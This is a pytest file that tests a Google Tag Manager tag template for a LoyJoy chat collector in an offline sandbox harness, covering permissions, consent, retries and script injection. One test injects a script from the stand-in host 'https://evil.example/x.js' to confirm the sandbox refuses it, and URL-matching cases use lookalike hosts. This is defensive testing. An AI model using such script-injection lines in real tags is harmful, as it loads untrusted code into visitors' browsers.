"""The GTM web tag template (gtm/template.tpl), in the offline harness of tests/gtm_sandbox.

The Community Template Gallery and every container that imports the template run it in GTM's sandbox, which
no test here can reach; the harness holds it to what Google documents instead, and these tests also prove the
harness refuses what GTM would refuse (a forbidden construct, a call outside the declared permissions) and
converts values at the sandbox's edge as GTM does. The template in real browsers: tests/test_gtm_engines.py.
"""

from __future__ import annotations

import json
import re
import subprocess
from typing import Any

import pytest
import yaml

from . import gtm_sandbox as gtm

ROOT = gtm.ROOT
COLLECTOR = "https://collector.example.com"
SCRIPT = COLLECTOR + "/loyjoy-collector.js"
LOADER = "https://stable.loyjoy.com/widget.js"
UP = {LOADER: "loyjoy", SCRIPT: "snippet"}


@pytest.fixture(scope="module")
def template() -> gtm.Template:
    return gtm.load()


def setting(**data: Any) -> dict[str, Any]:
    return {"collectorUrl": COLLECTOR, "bot": "bot-1", "consent": "none", **data}


def node_js(script: str) -> Any:
    """Run a few lines against sandbox.js (bound to `s`) and return what they print as JSON."""
    code = f"const s = require({str(gtm.SANDBOX_JS)!r});\n{script}"
    return json.loads(subprocess.run([gtm.NODE, "-e", code], capture_output=True, text=True, check=True).stdout)


# ------------------------------------------------------------------------------------------ the file


def test_the_template_has_its_sections_and_passes_every_static_check(template: gtm.Template) -> None:
    assert list(template.sections) == list(gtm.SECTIONS)
    assert gtm.check(template) == []
    assert template.info["type"] == "TAG" and template.info["containerContexts"] == ["WEB"]


def test_its_own_tests_pass_in_the_harness(template: gtm.Template) -> None:
    results = gtm.run_tests(template)
    assert len(results) >= 10
    assert [r for r in results if not r["passed"]] == []


PATTERN_URLS = [SCRIPT, "https://shop.example.com/lj/loyjoy-collector.js", LOADER]


def tour(template: gtm.Template) -> list[list[Any]]:
    """Every call the template makes over the flows that reach all of its code: collector down then back,
    the queue past its bound, a page left and shown again, Consent Mode changing, the loader off."""
    lj = "https://shop.example.com/lj/loyjoy-collector.js"
    flows = [
        (
            [
                {"fire": setting()},
                {"emit": ["open", {"process_name": "P"}], "repeat": 501},
                {"dispatch": "load"},
                {"advance": 1000},
                {"dispatch": "pagehide"},
                {"dispatch": "pageshow"},
                {"scripts": {SCRIPT: "snippet"}, "advance": 2000},
                {"fire": setting()},
            ],
            {LOADER: "loyjoy", SCRIPT: "fail"},
        ),
        (
            [
                {"defaultConsent": ["analytics_storage", False]},
                {"fire": setting(collectorUrl="https://shop.example.com/lj", consent="consentMode")},
                {"dispatch": "load"},
                {"consent": ["analytics_storage", True]},
            ],
            {LOADER: "loyjoy", lj: "snippet"},
        ),
        ([{"fire": setting(loadLoyJoy=False)}, {"define": "LoyJoy"}, {"dispatch": "scriptload"}], {}),
    ]
    calls: list[list[Any]] = []
    for steps, scripts in flows:
        answer = gtm.fire(template, steps, scripts)
        assert [o["result"] for o in answer["outcomes"]] == ["success"] * len(answer["outcomes"]), answer["logs"]
        calls += answer["calls"]
    return calls


def used_permissions(calls: list[list[Any]], patterns: list[str]) -> dict[str, Any]:
    """The permissions these calls needed, in the shape normalizePermissions gives the declared ones."""
    rights: dict[str, dict[str, bool]] = {}
    storage: dict[str, dict[str, bool]] = {}
    urls: set[str] = set()
    consent: set[str] = set()
    kinds: set[str] = set()

    def need(table: dict[str, dict[str, bool]], key: str, *which: str) -> None:
        for right in which:
            table.setdefault(key, {})[right] = True

    for name, args in calls:
        if name == "copyFromWindow":
            need(rights, args[0], "read")
        elif name == "setInWindow":
            need(rights, args[0], "write")
        elif name == "callInWindow":
            need(rights, args[0], "execute")
        elif name == "createQueue":
            need(rights, args[0], "read", "write")
        elif name == "injectScript":
            urls.add(args[0])
        elif name.startswith("localStorage."):
            need(storage, args[0], "read" if name.endswith("getItem") else "write")
        elif name in ("isConsentGranted", "addConsentListener"):
            consent.add(args[0])
        elif name == "logToConsole":
            kinds.add("logging")
        elif name.startswith("templateStorage."):
            kinds.add("access_template_storage")
    matched = node_js(
        f"process.stdout.write(JSON.stringify({json.dumps(patterns)}.filter(p => "
        f"{json.dumps(sorted(urls))}.some(u => s.urlMatches(p, u)))))"
    )
    return {
        "inject_script": matched,
        "access_globals": {k: {r: v.get(r, False) for r in ("read", "write", "execute")} for k, v in rights.items()},
        "access_local_storage": {k: {r: v.get(r, False) for r in ("read", "write")} for k, v in storage.items()},
        "access_consent": sorted(consent),
        "other": sorted(kinds),
    }


def test_the_permissions_are_exactly_what_the_code_uses(template: gtm.Template) -> None:
    """Narrowest that work: each declared key, right and URL pattern is one some flow of the code uses, and
    each use is declared (the harness would have failed the tag otherwise)."""
    declared = node_js(
        f"process.stdout.write(JSON.stringify(s.normalizePermissions({json.dumps(template.permissions)})))"
    )
    assert set(declared) == {
        "inject_script",
        "access_globals",
        "access_consent",
        "access_local_storage",
        "logging",
        "access_template_storage",
    }
    used = used_permissions(tour(template), declared["inject_script"]["urls"])
    assert used["inject_script"] == declared["inject_script"]["urls"]  # every pattern, and no other URL
    assert used["access_globals"] == {k.pop("key"): k for k in declared["access_globals"]["keys"]}
    assert used["access_local_storage"] == {k.pop("key"): k for k in declared["access_local_storage"]["keys"]}
    assert used["access_consent"] == [t["consentType"] for t in declared["access_consent"]["consentTypes"]]
    assert [t["write"] for t in declared["access_consent"]["consentTypes"]] == [False]
    assert used["other"] == ["access_template_storage", "logging"]
    assert declared["logging"] == {"environments": "debug"}  # never logs on a live site


def test_the_install_guide_names_the_permissions_the_template_declares(template: gtm.Template) -> None:
    """A container's admin decides on the install guide's list: it must be the template's, not an older one."""
    guide = (ROOT / "docs" / "install.md").read_text()
    section = guide[guide.index("## Google Tag Manager") :]
    section = section[: section.index("\n## ", 1)]
    declared = node_js(
        f"process.stdout.write(JSON.stringify(s.normalizePermissions({json.dumps(template.permissions)})))"
    )
    names = declared["inject_script"]["urls"] + [k["key"] for k in declared["access_globals"]["keys"]]
    names += [k["key"] for k in declared["access_local_storage"]["keys"]]
    for name in names:
        assert f"`{name}`" in section, name
    for permission in declared:
        assert f"`{permission}`" in section


def test_every_field_the_code_reads_is_declared(template: gtm.Template) -> None:
    answer = gtm.fire(template, [{"fire": setting(consent="variable", consentVariable="true")}], {SCRIPT: "snippet"})
    read = set(answer["dataRead"]) - {"gtmOnSuccess", "gtmOnFailure"}
    assert read <= set(gtm.fields(template.parameters))
    assert {"collectorUrl", "bot", "process", "consent", "consentVariable"} <= read


def test_field_validation_as_the_editor_applies_it(template: gtm.Template) -> None:
    assert gtm.validate(template, setting()) == []
    assert gtm.validate(template, setting(collectorUrl="http://collector.example.com"))
    assert gtm.validate(template, setting(collectorUrl="https://collector.example.com/?x=1"))
    assert gtm.validate(template, setting(batchSize="-1"))
    assert gtm.validate(template, setting(unknown="x")) == ["unknown: no such field"]


def test_metadata_and_license_for_the_gallery(template: gtm.Template) -> None:
    metadata = yaml.safe_load((ROOT / "gtm" / "metadata.yaml").read_text())
    assert metadata["homepage"].startswith("https://") and metadata["documentation"].startswith("https://")
    assert metadata["versions"] and all(re.fullmatch(r"[0-9a-f]{40}", v["sha"]) for v in metadata["versions"])
    assert all(v["changeNotes"].strip() for v in metadata["versions"])
    for version in metadata["versions"]:  # each version is a commit of this repository holding a template
        shown = subprocess.run(
            ["git", "-C", str(ROOT), "show", f"{version['sha']}:gtm/template.tpl"], capture_output=True, text=True
        )
        assert shown.returncode == 0, f"{version['sha']} has no gtm/template.tpl"
        gtm.parse(shown.stdout)
    license_text = (ROOT / "gtm" / "LICENSE").read_text()
    assert "Apache License" in license_text and "Version 2.0, January 2004" in license_text


# ------------------------------------------------------------------------------- flows in Node's page


def records(answer: dict[str, Any], *kinds: str) -> list[list[Any]]:
    return [r for r in answer["window"] if r[0] in kinds]


def test_the_chat_boots_before_the_collectors_script_is_even_asked_for(template: gtm.Template) -> None:
    answer = gtm.fire(template, [{"fire": setting()}, {"dispatch": "load"}], UP)
    order = [r[0] if r[0] != "script" else r[1] for r in records(answer, "script", "LoyJoy", "adopted")]
    assert order == [LOADER, "LoyJoy", SCRIPT, "adopted"]
    [boot] = records(answer, "LoyJoy")
    assert boot[1] == "boot" and boot[2] == {"bot": "bot-1", "eventListeners": ["<function>"]}
    [outcome] = answer["outcomes"]
    assert outcome["result"] == "success" and outcome["signalledAt"] == outcome["firedAt"]  # at the boot


@pytest.mark.parametrize("kind", ["fail", "broken", "hang"])
def test_whatever_the_collector_does_the_chat_boots_and_its_events_arrive_once_it_is_back(
    template: gtm.Template, kind: str
) -> None:
    steps = [
        {"fire": setting(process="p-1")},
        {"emit": ["open", {"process_name": "P"}]},
        {"dispatch": "load"},
        {"advance": 5000},
        {"emit": ["close", {"process_name": "P"}]},
        {"scripts": {SCRIPT: "snippet"}, "release": True},
        {"advance": 60_000},
    ]
    answer = gtm.fire(template, steps, {LOADER: "loyjoy", SCRIPT: kind})
    assert answer["outcomes"][0]["result"] == "success"
    assert records(answer, "LoyJoy") == [
        ["LoyJoy", "boot", {"bot": "bot-1", "process": "p-1", "eventListeners": ["<function>"]}]
    ]
    [adopted] = records(answer, "adopted")
    assert [entry[0] for entry in adopted[2]] == ["open", "close"]  # made meanwhile, taken over on recovery
    tries = [r[1] for r in records(answer, "script") if r[1].startswith(SCRIPT)]
    assert len(tries) >= (1 if kind == "hang" else 2) and len(set(tries)) == len(tries)  # retries bust the cache
    if kind != "hang":
        assert any("next try in" in line for line in answer["logs"])


def test_the_tag_signals_within_two_seconds_when_loyjoys_loader_hangs(template: gtm.Template) -> None:
    steps = [{"fire": setting()}, {"advance": 1499}, {"advance": 1}, {"scripts": {LOADER: "loyjoy"}, "release": True}]
    answer = gtm.fire(template, steps, {LOADER: "hang", SCRIPT: "snippet"})
    [outcome] = answer["outcomes"]
    assert outcome["result"] == "success" and outcome["signalledAt"] - outcome["firedAt"] == 1500
    assert len(records(answer, "LoyJoy")) == 1  # the chat still boots when the loader does arrive


def test_a_loader_that_fails_fails_the_tag_and_a_loader_from_elsewhere_still_boots(template: gtm.Template) -> None:
    steps = [{"fire": setting()}, {"define": "LoyJoy"}, {"dispatch": "scriptload"}]
    answer = gtm.fire(template, steps, {SCRIPT: "snippet"})
    assert answer["outcomes"][0]["result"] == "failure"
    assert len(records(answer, "LoyJoy")) == 1
    assert any("did not load" in line for line in answer["logs"])


@pytest.mark.parametrize("first", ["tag", "page"])
def test_with_loading_off_the_pages_loader_boots_the_chat_before_or_after_the_tag(
    template: gtm.Template, first: str
) -> None:
    steps = [{"fire": setting(loadLoyJoy=False)}, {"define": "LoyJoy"}, {"dispatch": "scriptload"}]
    answer = gtm.fire(template, steps, {}, loyjoy=first == "page")
    assert len(records(answer, "LoyJoy")) == 1 and not records(answer, "script")
    assert answer["outcomes"][0]["result"] == "success"


def test_fired_again_or_after_the_inline_stub_it_never_boots_twice(template: gtm.Template) -> None:
    steps = [{"fire": setting()}, {"fire": setting()}, {"dispatch": "load"}, {"fire": setting()}]
    answer = gtm.fire(template, steps, UP)
    assert len(records(answer, "LoyJoy")) == 1 and len(records(answer, "script")) == 2  # loader, collector
    assert [o["result"] for o in answer["outcomes"]] == ["success"] * 3
    stubbed = gtm.fire(template, [{"fire": setting()}, {"dispatch": "load"}], UP, loyjoy=True, stubFirst=True)
    assert records(stubbed, "LoyJoy", "script") == [] and stubbed["outcomes"][0]["result"] == "success"
    assert any("on this page already" in line for line in stubbed["logs"])


def test_every_event_makes_the_seeds_push_and_the_queue_counts_what_passes_its_bound(template: gtm.Template) -> None:
    steps = [{"fire": setting()}, {"emit": ["show", None], "repeat": 502}]
    answer = gtm.fire(template, steps, UP)
    assert answer["dataLayer"][0] == {
        "event": "loyjoy",
        "gaEventCategory": "loyjoy",
        "gaEventAction": None,
        "gaEventLabel": "show",
    }
    assert len([e for e in answer["dataLayer"] if e["event"] == "loyjoy"]) == 502
    assert len(answer["stub"]["q"]) == 500 and answer["stub"]["d"] == 2


@pytest.mark.parametrize(
    "url",
    ["https://loyjoy-collector-abc-ew.a.run.app", "https://shop.example.com/lj/", "https://shop.example.com/a/b/lj"],
)
def test_a_collector_on_any_https_host_or_below_a_path_is_injected(template: gtm.Template, url: str) -> None:
    script = url.rstrip("/") + "/loyjoy-collector.js"
    answer = gtm.fire(
        template, [{"fire": setting(collectorUrl=url)}, {"dispatch": "load"}], {LOADER: "loyjoy", script: "snippet"}
    )
    assert ["script", script] in answer["window"] and records(answer, "adopted")


def test_logs_stay_quiet_outside_preview(template: gtm.Template) -> None:
    steps = [{"fire": setting()}, {"dispatch": "load"}]
    answer = gtm.fire(template, steps, {SCRIPT: "fail"}, debug=False)
    assert answer["logs"] == [] and answer["outcomes"][0]["result"] == "failure"


def test_consent_mode_waits_for_analytics_storage_then_follows_every_change(template: gtm.Template) -> None:
    steps = [
        {"defaultConsent": ["analytics_storage", False]},
        {"fire": setting(consent="consentMode")},
        {"consent": ["analytics_storage", True]},  # before the script: remembered
        {"fire": setting(consent="consentMode")},  # fired again: one listener still
        {"dispatch": "load"},
        {"consent": ["analytics_storage", True]},  # no change: no call
        {"consent": ["analytics_storage", False]},
        {"consent": ["analytics_storage", True]},
    ]
    answer = gtm.fire(template, steps, UP)
    [adopted] = records(answer, "adopted")
    assert adopted[1]["consent"] == "explicit"
    assert [r[1] for r in records(answer, "LoyJoyCollector.consent")] == [True, False, True]


def test_consent_mode_without_any_consent_state_counts_as_granted(template: gtm.Template) -> None:
    """GTM's isConsentGranted: a type nobody set is granted (a site without Consent Mode sends at once)."""
    answer = gtm.fire(template, [{"fire": setting(consent="consentMode")}, {"dispatch": "load"}], UP)
    assert records(answer, "LoyJoyCollector.consent") == [["LoyJoyCollector.consent", True]]


def test_a_page_left_before_the_script_arrived_counts_what_it_held_where_storage_is_allowed(
    template: gtm.Template,
) -> None:
    held = [{"emit": ["open", {}], "repeat": 3}, {"dispatch": "pagehide"}]
    answer = gtm.fire(template, [{"fire": setting()}, *held], {LOADER: "loyjoy", SCRIPT: "fail"})
    assert json.loads(answer["storage"]["ljc:lost"]) == {"quota": 3, "overflow": 0}
    back = gtm.fire(template, [{"fire": setting()}, *held, {"dispatch": "pageshow"}], {LOADER: "loyjoy"})
    assert back["storage"] == {}  # back from the back-forward cache: the events live on
    pending = [{"defaultConsent": ["analytics_storage", False]}, {"fire": setting(consent="consentMode")}, *held]
    assert gtm.fire(template, pending, {LOADER: "loyjoy"})["storage"] == {}  # no consent, nothing stored
    arrived = gtm.fire(template, [{"fire": setting()}, {"dispatch": "load"}, *held], UP)
    assert arrived["storage"] == {}  # the script keeps its own queue


# ------------------------------------------------------------------------ the harness refuses, as GTM


FORBIDDEN = [
    ("var x = new Object();", "there is no `new` keyword"),
    ("var f = function () { return this; };", "no `this`"),
    ("var r = /loyjoy/;", "no regular expression literals"),
    ("var t = `x${1}`;", "template literals"),
    ("var o = {a: 1}; var {a} = o;", "destructuring"),
    ("window.LoyJoy = 1;", "`window` is not defined"),
    ("setTimeout(data.gtmOnSuccess, 10);", "`setTimeout` is not defined"),
    ("var e = encodeURIComponent('x');", "`encodeURIComponent` is not defined"),
    ("var p = 'x'.padStart(3);", ".padStart() is not in the standard library"),
    ("var n = 'injectScript'; var api = require(n);", "require takes one API name as a string literal"),
    ("var r = require; r('injectScript');", "`require` may only be called"),
    ("var s = require('sendHttpRequest');", "no such API in web templates"),
    ("var j = require('JSON'); j.rawJSON('1');", "JSON.rawJSON is not part of the JSON API"),
    ("var c = [].constructor;", "native constructors and prototypes are not reachable"),
    ("class A {}", "classes"),
    ("for (const x of [1]) {}", "for...of"),
]


@pytest.mark.parametrize(("line", "message"), FORBIDDEN, ids=[m for _, m in FORBIDDEN])
def test_a_forbidden_construct_is_refused(template: gtm.Template, line: str, message: str) -> None:
    variant = template.replace(code=line + "\n" + template.code)
    errors = gtm.check(variant)
    assert any(message in e for e in errors), errors


def test_an_api_without_its_permission_is_refused(template: gtm.Template) -> None:
    """GTM derives permissions from the APIs a template requires: one it lacks means it cannot run."""
    without = [p for p in template.permissions if p["instance"]["key"]["publicId"] != "inject_script"]
    errors = gtm.check(template.replace(permissions=without))
    assert (
        "code line 0: injectScript needs the inject_script permission, which ___WEB_PERMISSIONS___ does not declare"
        in errors
    )


def narrowed(template: gtm.Template, drop_key: str | None = None, urls: list[str] | None = None) -> gtm.Template:
    permissions = json.loads(json.dumps(template.permissions))
    for entry in permissions:
        instance = entry["instance"]
        for param in instance["param"]:
            if drop_key and param["key"] == "keys":
                items = param["value"]["listItem"]
                param["value"]["listItem"] = [i for i in items if i["mapValue"][0]["string"] != drop_key]
            if urls is not None and param["key"] == "urls":
                param["value"]["listItem"] = [{"type": 1, "string": u} for u in urls]
    return template.replace(permissions=permissions)


def test_a_window_call_outside_the_permissions_fails_the_tag(template: gtm.Template) -> None:
    variant = narrowed(template, drop_key="LoyJoy")
    assert gtm.check(variant) == []  # statically fine: the key is a run-time matter
    answer = gtm.fire(variant, [{"fire": setting()}], UP, loyjoy=True)
    assert answer["outcomes"][0]["result"] == "error"
    assert "access_globals denied: read window.LoyJoy" in answer["outcomes"][0]["error"]
    assert not records(answer, "LoyJoy")


def test_a_script_outside_the_url_patterns_is_never_injected(template: gtm.Template) -> None:
    variant = narrowed(template, urls=["https://cdn.example.org/loyjoy-collector.js"])
    answer = gtm.fire(variant, [{"fire": setting()}, {"dispatch": "load"}], UP)
    assert records(answer, "script") == []  # queryPermission said no to both
    assert answer["outcomes"][0]["result"] == "failure"
    direct = template.replace(
        code="const injectScript = require('injectScript');\ninjectScript('https://evil.example/x.js', data.gtmOnSuccess, data.gtmOnFailure);"
    )
    answer = gtm.fire(direct, [{"fire": setting()}], {})
    assert answer["outcomes"][0]["result"] == "error"
    assert "inject_script denied: inject https://evil.example/x.js" in answer["outcomes"][0]["error"]


def test_a_failing_scenario_fails(template: gtm.Template) -> None:
    tests = template.tests
    tests["scenarios"] = [
        {
            "name": "wrong",
            "code": "runCode(mockData);\nassertThat(injected).isEqualTo(['https://elsewhere/loyjoy-collector.js', 'loyjoy-collector']);",
        },
        {"name": "unmet", "code": "runCode(mockData);\nassertApi('gtmOnFailure').wasCalled();"},
        {
            "name": "throws",
            "code": "mockData.collectorUrl = 'https://c.example.com';\nmock('makeString', function () { fail('no strings today'); });\nrunCode(mockData);",
        },
    ]
    sections = dict(template.sections)
    sections["___TESTS___"] = yaml.safe_dump(tests, sort_keys=False)
    results = {r["name"]: r for r in gtm.run_tests(gtm.Template(sections))}
    assert not any(r["passed"] for r in results.values())
    assert "is not equal to" in results["wrong"]["error"]
    assert results["unmet"]["error"] == "gtmOnFailure was not called"
    assert "no strings today" in results["throws"]["error"]


def test_url_patterns_as_the_permissions_page_describes(template: gtm.Template) -> None:
    cases = [
        ("https://*/loyjoy-collector.js", "https://x-abc-ew.a.run.app/loyjoy-collector.js", True),
        ("https://*/loyjoy-collector.js", "http://x.a.run.app/loyjoy-collector.js", False),
        ("https://*/loyjoy-collector.js", "https://x.a.run.app/evil.js", False),
        ("https://*/loyjoy-collector.js", "https://x.a.run.app/lj/loyjoy-collector.js", False),
        ("https://*/*/loyjoy-collector.js", "https://shop.example/lj/loyjoy-collector.js", True),
        ("https://*.example.com/*", "https://cdn.example.com/a.js", True),
        ("https://*.example.com/*", "https://example.com.evil/a.js", False),
    ]
    script = f"const s = require({str(gtm.SANDBOX_JS)!r}); process.stdout.write(JSON.stringify({json.dumps(cases)}.map(c => s.urlMatches(c[0], c[1]))))"
    answer = json.loads(subprocess.run([gtm.NODE, "-e", script], capture_output=True, text=True, check=True).stdout)
    assert answer == [c[2] for c in cases]


# --------------------------------------------------------------------------- the edge, as GTM's runtime


def test_values_cross_the_edge_as_gtm_converts_them() -> None:
    """Plain objects and arrays deep-copied, `arguments` as an array, functions wrapped both ways; a Date, a
    class instance, a RegExp, a Map become undefined."""
    answer = node_js("""
      class Widget { constructor() { this.x = 1; } }
      const page = {plain: {a: [1, {b: 2}]}, bare: Object.create(null), date: new Date(0), widget: new Widget(),
                    re: /x/, map: new Map(), args: (function () { return arguments; })(1, 'two', {three: 3})};
      page.bare.k = 'v';
      const inside = s.copyIn(page);
      inside.plain.a[1].b = 99;  // a copy: the page's object is untouched
      const seen = [];
      const pageFn = function (value) { seen.push(value); value.mutated = true; return {back: new Date(0), ok: 1}; };
      const wrapped = s.copyIn(pageFn);
      const sandboxObject = {n: 1};
      const result = wrapped(sandboxObject);
      const sandboxFn = function (value, when) { return [value, when]; };
      const native = s.copyOut({eventListeners: [sandboxFn]}).eventListeners[0];
      process.stdout.write(JSON.stringify({
        keys: Object.keys(inside).sort(), plain: inside.plain, pageB: page.plain.a[1].b, bare: inside.bare,
        gone: [inside.date, inside.widget, inside.re, inside.map].map(v => v === undefined),
        args: [Array.isArray(inside.args), inside.args],
        result, sandboxUntouched: sandboxObject.mutated === undefined, pageGotCopy: seen[0] !== sandboxObject,
        native: [typeof native, native({d: 1}, new Date(0))],
      }));
    """)
    assert answer["plain"] == {"a": [1, {"b": 99}]} and answer["pageB"] == 2
    assert answer["bare"] == {"k": "v"}
    assert answer["gone"] == [True, True, True, True]
    assert answer["args"] == [True, [1, "two", {"three": 3}]]
    assert answer["result"] == {"ok": 1}  # the Date in the page's answer does not cross
    assert answer["sandboxUntouched"] and answer["pageGotCopy"]
    assert answer["native"] == ["function", [{"d": 1}, None]]  # a page Date handed to a sandbox function: gone


def test_the_page_calls_a_sandboxed_listener_passed_inside_an_object(template: gtm.Template) -> None:
    """What the tag relies on: {eventListeners: [fn]} through callInWindow arrives as a native function."""
    code = """const callInWindow = require('callInWindow');
const seen = [];
callInWindow('LoyJoy', 'boot', {eventListeners: [function (evt, obj) { seen.push([evt, obj]); }]});
data.gtmOnSuccess();"""
    variant = template.replace(code=code)
    answer = gtm.fire(variant, [{"fire": setting()}, {"emit": ["open", {"process_name": "P"}]}], {}, loyjoy=True)
    assert answer["outcomes"][0]["result"] == "success" and answer["errors"] == []
    assert records(answer, "LoyJoy")[0][2] == {"eventListeners": ["<function>"]}


def test_new_apis_check_their_permissions_at_call_time(template: gtm.Template) -> None:
    queue = template.replace(code="const createQueue = require('createQueue');\ncreateQueue('elsewhere');")
    assert (
        "access_globals denied: read and write window.elsewhere"
        in gtm.fire(queue, [{"fire": setting()}], {})["outcomes"][0]["error"]
    )
    storage = template.replace(
        code="const localStorage = require('localStorage');\nlocalStorage.setItem('ljc:cid', 'x');"
    )
    assert (
        "access_local_storage denied: write localStorage ljc:cid"
        in gtm.fire(storage, [{"fire": setting()}], {})["outcomes"][0]["error"]
    )
    absent = template.replace(code="const sendPixel = require('sendPixel');\nsendPixel('https://x.example/p');")
    assert (
        "no API named sendPixel in this harness" in gtm.fire(absent, [{"fire": setting()}], {})["outcomes"][0]["error"]
    )
